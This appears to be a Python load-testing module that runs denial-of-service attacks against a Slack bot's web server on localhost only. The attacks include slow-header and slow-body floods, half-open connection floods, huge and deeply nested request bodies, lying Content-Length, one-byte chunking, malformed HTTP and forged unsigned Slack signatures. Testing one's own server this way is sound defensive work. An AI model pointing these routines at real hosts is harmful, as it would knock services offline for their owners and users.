"""Attacks on a bot's web server on this machine, as strangers may try them. Nothing but 127.0.0.1 is ever attacked.

`python -m bench.attacks PORT SECONDS [KIND …]` runs those kinds, or all, each in a thread, and prints what was sent.
"""

from __future__ import annotations

import itertools
import socket
import sys
import threading
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import TypeVar

_FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"
_UNSIGNED = b"X-Slack-Request-Timestamp: %d\r\nX-Slack-Signature: v0=" + b"a" * 64 + b"\r\n"


T = TypeVar("T")


class Attack:
    """One attacker: how long it goes on, and what it has sent."""

    def __init__(self, port: int, seconds: float) -> None:
        self._port = port
        self._ends = time.monotonic() + seconds
        self.sent: Counter[str] = Counter()

    def goes_on(self) -> bool:
        """Return whether there is time left."""
        return time.monotonic() < self._ends

    def connection(self) -> socket.socket:
        """Return a new connection."""
        self.sent["connections"] += 1
        return socket.create_connection(("127.0.0.1", self._port), 2)

    def send(self, connection: socket.socket, data: bytes) -> None:
        """Send all of it."""
        connection.sendall(data)
        self.sent["bytes"] += len(data)


def half_open(attack: Attack) -> None:
    """Open connections as fast as possible, 2,000 at a time, and send half a head on each."""
    kept: deque[socket.socket] = deque()
    while attack.goes_on():
        with suppress(OSError):
            kept.append(connection := attack.connection())
            attack.send(connection, b"POST /slack/events HTTP/1.1\r\nHost: x\r\n")
        if len(kept) > 2_000:
            kept.popleft().close()


def slow_heads(attack: Attack) -> None:
    """Keep 300 connections, and send a byte of a head on each every second."""
    _slowly(attack, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Long: ", 300)


def slow_bodies(attack: Attack) -> None:
    """Keep 300 connections with whole heads, and send a byte of a body on each every second."""
    _slowly(attack, _head(400_000), 300)


def large_forms(attack: Attack) -> None:
    """Post unsigned forms of one to six megabytes, of many fields."""
    for megabytes in _while(attack, (1, 3, 6)):
        _post(attack, b"&".join([b"a%00=%F0%9F%A6%8A"] * (megabytes * 1_000_000 // 18)))


def allowed_forms(attack: Attack) -> None:
    """Post unsigned forms that are just short enough to be read whole."""
    for _ in _while(attack, (0,)):
        _post(attack, b"a=%F0%9F%A6%8A&" * 34_000)


def nested(attack: Attack) -> None:
    """Post JSON that is nested a hundred thousand times, to Slack's and to Kling's address."""
    for path in _while(attack, (b"/slack/events", b"/kling/callback")):
        _post(attack, b'{"a":' + b"[" * 100_000, path=path, content_type=b"Content-Type: application/json\r\n")


def endless(attack: Attack) -> None:
    """Post 600 MB at a time: declared, chunked, and with a Content-Length that is a lie."""
    block = b"x" * 65_536
    chunk = b"10000\r\n" + block + b"\r\n"
    kinds = (_head(600_000_000), block), (_head(None), chunk), (_head(10), block)
    for head, piece in _while(attack, kinds):
        with suppress(OSError), attack.connection() as connection:
            attack.send(connection, head)
            for _ in range(600_000_000 // 65_536):
                attack.send(connection, piece)


def tiny_chunks(attack: Attack) -> None:
    """Post a body in chunks of one byte."""
    for _ in _while(attack, (0,)):
        with suppress(OSError), attack.connection() as connection:
            attack.send(connection, _head(None) + b"1\r\nx\r\n" * 100_000)
            connection.recv(1_000)


def garbage(attack: Attack) -> None:
    """Send what is no HTTP, heads without end, and requests behind a request."""
    fox = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    for data in _while(attack, (b"\x16\x03\x01\x02\x00" * 50, b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 50_000, fox * 500)):
        with suppress(OSError), attack.connection() as connection:
            attack.send(connection, data)
            connection.recv(1_000)


def small_posts(attack: Attack) -> None:
    """Post short unsigned commands as fast as they are answered."""
    for _ in _while(attack, (0,)):
        _post(attack, b"command=%2Fkling&text=generate+a+fox&user_id=U1&channel_id=C1&trigger_id=1")


KINDS: dict[str, Callable[[Attack], None]] = {
    each.__name__: each
    for each in (
        *(half_open, slow_heads, slow_bodies, large_forms, allowed_forms),
        *(nested, endless, tiny_chunks, garbage, small_posts),
    )
}


def run(port: int, seconds: float, kinds: list[str]) -> dict[str, Counter[str]]:
    """Run the attacks side by side, and return what each sent."""
    attacks = {kind: Attack(port, seconds) for kind in kinds}
    threads = [threading.Thread(target=KINDS[kind], args=(attacks[kind],), daemon=True) for kind in kinds]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 30)
    return {kind: attack.sent for kind, attack in attacks.items()}


def _while(attack: Attack, kinds: tuple[T, ...]) -> Iterator[T]:
    return itertools.takewhile(lambda _: attack.goes_on(), itertools.cycle(kinds))


def _head(length: int | None, path: bytes = b"/slack/events", content_type: bytes = _FORM) -> bytes:
    framing = b"Transfer-Encoding: chunked\r\n" if length is None else b"Content-Length: %d\r\n" % length
    signature = _UNSIGNED % int(time.time())
    return b"POST " + path + b" HTTP/1.1\r\nHost: x\r\n" + content_type + signature + framing + b"\r\n"


def _post(attack: Attack, body: bytes, *, path: bytes = b"/slack/events", content_type: bytes = _FORM) -> None:
    with suppress(OSError), attack.connection() as connection:
        attack.send(connection, _head(len(body), path, content_type) + body)
        answer = connection.recv(1_000)
        attack.sent[answer[:12].decode("latin-1")] += 1


def _slowly(attack: Attack, head: bytes, connections: int) -> None:
    kept: list[socket.socket] = []
    while attack.goes_on():
        for connection in kept[:]:
            try:
                attack.send(connection, b"a")
            except OSError:
                kept.remove(connection)
        while len(kept) < connections and attack.goes_on():
            with suppress(OSError):
                kept.append(connection := attack.connection())
                attack.send(connection, head)
        time.sleep(1)


if __name__ == "__main__":
    chosen = sys.argv[3:] or list(KINDS)
    for kind, sent in run(int(sys.argv[1]), float(sys.argv[2]), chosen).items():
        sys.stdout.write(f"{kind}: {', '.join(f'{count:,} {what}' for what, count in sorted(sent.items()))}\n")
